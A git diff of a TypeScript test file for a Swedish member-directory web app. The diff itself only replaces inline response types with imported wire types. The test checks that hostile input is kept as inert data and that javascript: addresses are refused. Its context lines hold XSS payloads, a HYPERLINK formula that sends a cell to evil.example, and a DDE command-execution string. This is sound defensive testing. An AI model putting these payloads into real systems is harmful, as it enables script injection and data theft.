@@ -15,6 +15,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ADMIN, parseCsv, startTestServer, type TestServer } from '../test-server';
 import { reply, sessionCookie, trpcData, trpcMutation, trpcQuery } from './http';
+import type { Outputs, RestAreas, RestClusters, RestDirectory, RestMember } from '../wire-types';
 
 const PAYLOADS = [
   '<script>alert(1)</script>',
@@ -31,13 +32,6 @@ const HOSTILE = PAYLOADS.join(' ');
 /** Spreadsheet formulas: a cell starting with = + - @ comes back as text (apostrophe-prefixed in CSV). */
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")';
 const MARKDOWN = `Läs [mer](javascript:alert(1)) och [här](JAVASCRIPT:alert(2)) <script>alert(3)</script>\n\n<img src=x onerror=alert(4)>`;
-
-interface MemberDetail {
-  slug: string;
-  name: string;
-  website: string | null;
-  description: { sv: string; en: string };
-}
 
 let server: TestServer;
 let cookie = '';
@@ -68,7 +62,7 @@ describe('hostile text is stored as written and returned as data', () => {
 
   beforeAll(async () => {
     member = (
-      await create<{ member: { slug: string; id: number } }>('member.admin.create', {
+      await create<Outputs['member']['admin']['create']>('member.admin.create', {
         name: `${HOSTILE} AB`.slice(0, 200),
         kind: 'company',
         website: 'https://example.se/?q=<script>alert(1)</script>',
@@ -78,7 +72,7 @@ describe('hostile text is stored as written and returned as data', () => {
       })
     ).member;
     formulaMember = (
-      await create<{ member: { slug: string } }>('member.admin.create', {
+      await create<Outputs['member']['admin']['create']>('member.admin.create', {
         name: FORMULA,
         kind: 'company',
         description: { sv: '+SUM(1+1)', en: '@cmd|" /C calc"!A0' },
@@ -92,7 +86,7 @@ describe('hostile text is stored as written and returned as data', () => {
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toMatch(/^application\/json/);
     expect(response.headers.get('x-content-type-options')).toBe('nosniff');
-    const body = (await response.json()) as MemberDetail;
+    const body = (await response.json()) as RestMember;
     expect(body.name).toBe(`${HOSTILE} AB`.slice(0, 200).trim());
     expect(body.description).toEqual({ sv: HOSTILE, en: HOSTILE });
     // A web address is normalised (and could never be javascript:), not stored raw.
@@ -103,11 +97,11 @@ describe('hostile text is stored as written and returned as data', () => {
 
     const listed = (await (
       await server.fetch(`/api/v1/members?q=${encodeURIComponent('alert')}`)
-    ).json()) as { items: { slug: string; name: string }[] };
+    ).json()) as RestDirectory;
     expect(listed.items.find((i) => i.slug === member.slug)?.name).toBe(body.name);
 
     const viaTrpc = await reply(await trpcQuery(server, 'member.bySlug', { slug: member.slug }));
-    expect(trpcData<MemberDetail>(viaTrpc.body).description.sv).toBe(HOSTILE);
+    expect(trpcData<Outputs['member']['bySlug']>(viaTrpc.body).description.sv).toBe(HOSTILE);
   });
 
   it('a javascript: web address is refused, not stored', async () => {
@@ -157,7 +151,7 @@ describe('hostile text is stored as written and returned as data', () => {
 
 describe('clusters, articles and areas', () => {
   it('a cluster keeps hostile text in every text field', async () => {
-    const created = await create<{ slug: string }>('cluster.admin.create', {
+    const created = await create<Outputs['cluster']['admin']['create']>('cluster.admin.create', {
       name: `${HOSTILE}`.slice(0, 200),
       shortName: '<b>x</b>"><script>',
       description: { sv: HOSTILE, en: HOSTILE },
@@ -168,17 +162,7 @@ describe('clusters, articles and areas', () => {
     });
     const response = await server.fetch('/api/v1/clusters');
     expect(response.headers.get('content-type')).toMatch(/^application\/json/);
-    const { items } = (await response.json()) as {
-      items: {
-        slug: string;
-        name: string;
-        shortName: string;
-        city: string;
-        sourceNote: string;
-        website: string | null;
-        description: { sv: string; en: string };
-      }[];
-    };
+    const { items } = (await response.json()) as RestClusters;
     const cluster = items.find((c) => c.slug === created.slug);
     expect(cluster).toMatchObject({
       name: HOSTILE.slice(0, 200).trim(),
@@ -192,7 +176,7 @@ describe('clusters, articles and areas', () => {
   });
 
   it('an article keeps hostile text, and its Markdown body is stored as written', async () => {
-    const created = await create<{ slug: string }>('article.admin.create', {
+    const created = await create<Outputs['article']['admin']['create']>('article.admin.create', {
       title: { sv: HOSTILE.slice(0, 200).trim(), en: '<script>alert(1)</script>' },
       summary: { sv: HOSTILE, en: HOSTILE },
       body: { sv: MARKDOWN, en: MARKDOWN },
@@ -206,13 +190,7 @@ describe('clusters, articles and areas', () => {
     });
     const result = await reply(await trpcQuery(server, 'article.bySlug', { slug: created.slug }));
     expect(result.status).toBe(200);
-    const article = trpcData<{
-      title: { sv: string; en: string };
-      summary: { sv: string; en: string };
-      body: { sv: string; en: string };
-      author: string;
-      coverImage: { src: string; alt: { sv: string; en: string } } | null;
-    }>(result.body);
+    const article = trpcData<Outputs['article']['bySlug']>(result.body);
     expect(article.title).toEqual({
       sv: HOSTILE.slice(0, 200).trim(),
       en: '<script>alert(1)</script>',
@@ -239,14 +217,12 @@ describe('clusters, articles and areas', () => {
   });
 
   it('an area keeps hostile text', async () => {
-    const created = await create<{ slug: string }>('area.admin.create', {
+    const created = await create<Outputs['area']['admin']['create']>('area.admin.create', {
       slug: 'hostile-area',
       name: { sv: '<script>alert(1)</script>', en: '"><img src=x onerror=alert(1)>' },
       summary: { sv: HOSTILE, en: HOSTILE },
     });
-    const { items } = (await (await server.fetch('/api/v1/areas')).json()) as {
-      items: { slug: string; name: { sv: string; en: string }; summary: { sv: string } }[];
-    };
+    const { items } = (await (await server.fetch('/api/v1/areas')).json()) as RestAreas;
     expect(items.find((a) => a.slug === created.slug)).toMatchObject({
       name: { sv: '<script>alert(1)</script>', en: '"><img src=x onerror=alert(1)>' },
       summary: { sv: HOSTILE },
